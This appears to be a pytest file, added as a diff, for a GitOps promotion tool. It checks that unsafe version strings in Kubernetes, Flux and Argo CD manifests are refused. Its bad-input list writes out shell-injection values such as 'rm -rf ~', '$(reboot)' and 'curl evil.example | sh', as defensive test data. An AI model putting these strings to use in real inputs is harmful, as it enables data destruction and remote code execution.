@@ -1,0 +1,160 @@
+"""Input that must never be written: refused with exit 2 before anything changes."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.engine.test_bad_input import GOOD, graph_repo, run_bad
+from tests.helpers import git
+
+PLAIN = """
+environments:
+  qa: {path: envs/qa, renderer: plain}
+  prod: {path: envs/prod, renderer: plain, from: [qa]}
+"""
+
+DEPLOYMENT = """apiVersion: apps/v1
+kind: Deployment
+metadata: {name: web}
+spec:
+  template:
+    spec:
+      containers:
+        - name: web
+          image: @VERSION@
+"""
+
+HELMRELEASE = """apiVersion: helm.toolkit.fluxcd.io/v2
+kind: HelmRelease
+metadata: {name: podinfo, namespace: apps}
+spec:
+  interval: 10m
+  chart:
+    spec:
+      chart: podinfo
+      version: @VERSION@
+      sourceRef: {kind: HelmRepository, name: podinfo}
+"""
+
+OCIREPOSITORY = """apiVersion: source.toolkit.fluxcd.io/v1beta2
+kind: OCIRepository
+metadata: {name: manifests, namespace: flux-system}
+spec:
+  interval: 5m
+  url: oci://ghcr.io/acme/manifests
+  ref:
+    @KEY@: @VERSION@
+"""
+
+APPLICATION = """apiVersion: argoproj.io/v1alpha1
+kind: Application
+metadata: {name: guestbook, namespace: argocd}
+spec:
+  project: default
+  destination: {server: "https://kubernetes.default.svc", namespace: guestbook}
+  source:
+    repoURL: https://github.com/acme/guestbook.git
+    path: deploy
+    targetRevision: @VERSION@
+"""
+
+MARKER = """apiVersion: v1
+kind: ConfigMap
+metadata: {name: app}
+data:
+  VERSION: @VERSION@ # {"$promote": "app"}
+"""
+
+
+def fill(template: str, version: str, key: str = "tag") -> str:
+    return template.replace("@VERSION@", version).replace("@KEY@", key)
+
+
+def two_envs(make_repo, template: str, qa: str, prod: str, qa_key: str = "tag"):
+    return make_repo(
+        {
+            "environments/graph.yaml": PLAIN,
+            "envs/qa/app.yaml": fill(template, qa, qa_key),
+            "envs/prod/app.yaml": fill(template, prod),
+        }
+    )
+
+
+BAD_VERSIONS = [
+    (DEPLOYMENT, '"ghcr.io/acme/web:1.2.0;rm -rf ~"', "';'"),
+    (DEPLOYMENT, '"ghcr.io/acme/web:1.2.0 `id`"', "'`'"),
+    (DEPLOYMENT, "ghcr.io/acme/web:" + "1" * 129, "is not an image tag"),
+    (DEPLOYMENT, '"ghcr.io/acme/web:1.2.0\\n-forged"', "control characters '\\n'"),
+    (DEPLOYMENT, '"ghcr.io/acme/web:1.2.0@sha256:$(id)"', "'$'"),
+    (HELMRELEASE, '"6.0.0 $(reboot)"', "'$'"),
+    (HELMRELEASE, '"6.0.0#x"', "'#'"),
+    (APPLICATION, '"main; curl evil.example | sh"', "';'"),
+    (APPLICATION, '"feature/../../x"', "is not a git branch"),
+    (MARKER, '"1.1.0\\nPromote-Forced: yes"', "control characters '\\n'"),
+    (MARKER, '"' + "x" * 300 + '"', "300 characters long"),
+]
+OLD = {
+    DEPLOYMENT: "ghcr.io/acme/web:1.0.0",
+    HELMRELEASE: "6.0.0",
+    APPLICATION: "v1.0.0",
+    MARKER: '"1.0.0"',
+}
+
+
+@pytest.mark.parametrize(("template", "bad", "expected"), BAD_VERSIONS)
+def test_a_version_its_consumer_cannot_read_is_refused(make_repo, cli, template, bad, expected):
+    repo = two_envs(make_repo, template, bad, OLD[template])
+    message = run_bad(cli, repo, "qa", "prod", "--yes")
+    assert "envs/qa/app.yaml:" in message  # where SRC pins it
+    assert "cannot be written" in message and expected in message
+
+
+GOOD_VERSIONS = [
+    (DEPLOYMENT, "ghcr.io/acme/web:1.2.0_rc.1", "tag"),
+    (DEPLOYMENT, "ghcr.io/acme/web@sha256:" + "ab" * 32, "tag"),
+    (DEPLOYMENT, "ghcr.io/acme/web:1.2.0@sha256:" + "cd" * 32, "tag"),
+    (HELMRELEASE, '">=6.1.0 <7.0.0"', "tag"),
+    (HELMRELEASE, '"~6.1 || ^7.0"', "tag"),
+    (APPLICATION, "HEAD", "tag"),
+    (APPLICATION, "release/2.x", "tag"),
+    (APPLICATION, "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567", "tag"),
+    (OCIREPOSITORY, '">=1.2.0 <2.0.0"', "semver"),
+    (OCIREPOSITORY, "sha256:" + "ef" * 32, "digest"),
+    (MARKER, '"a value: with $ymbols & spaces"', "tag"),
+]
+GOOD_OLD = {**OLD, OCIREPOSITORY: '"1.0.0"'}
+
+
+@pytest.mark.parametrize(("template", "good", "key"), GOOD_VERSIONS)
+def test_valid_versions_are_still_promoted(make_repo, cli, template, good, key):
+    repo = two_envs(make_repo, template, good, GOOD_OLD[template], key)
+    result = cli(repo, "qa", "prod", "--yes")
+    assert result.exit_code == 0, result.stderr
+    assert git(repo, "status", "--porcelain") == ""
+    assert git(repo, "log", "-1", "--format=%s").startswith("promote(prod):")
+
+
+def test_a_detached_head_is_refused_unless_asked_for(make_repo, cli):
+    repo = graph_repo(make_repo, GOOD)
+    git(repo, "checkout", "--quiet", "--detach")
+    message = run_bad(cli, repo, "qa", "prod", "--yes")
+    assert "HEAD is detached" in message and "--detached-ok" in message
+    assert cli(repo, "qa", "prod", "--dry-run").exit_code == 0
+
+    head = git(repo, "rev-parse", "HEAD")
+    result = cli(repo, "qa", "prod", "--yes", "--detached-ok")
+    assert result.exit_code == 0, result.stderr
+    assert git(repo, "rev-parse", "HEAD^") == head
+    assert git(repo, "rev-parse", "main") == head  # no branch moved
+    assert git(repo, "status", "--porcelain") == ""
+
+
+def test_a_destination_without_yaml_files_is_refused(make_repo, cli):
+    repo = graph_repo(make_repo, GOOD)
+    (repo / "envs/prod/README.md").write_text("prod is configured elsewhere\n")
+    git(repo, "rm", "--quiet", "envs/prod/app.yaml")
+    git(repo, "add", "--all")
+    git(repo, "commit", "--quiet", "-m", "prod: no manifests")
+    message = run_bad(cli, repo, "qa", "prod", "--yes")
+    assert "'prod' has no YAML files under envs/prod" in message
+    assert "environments/graph.yaml" in message
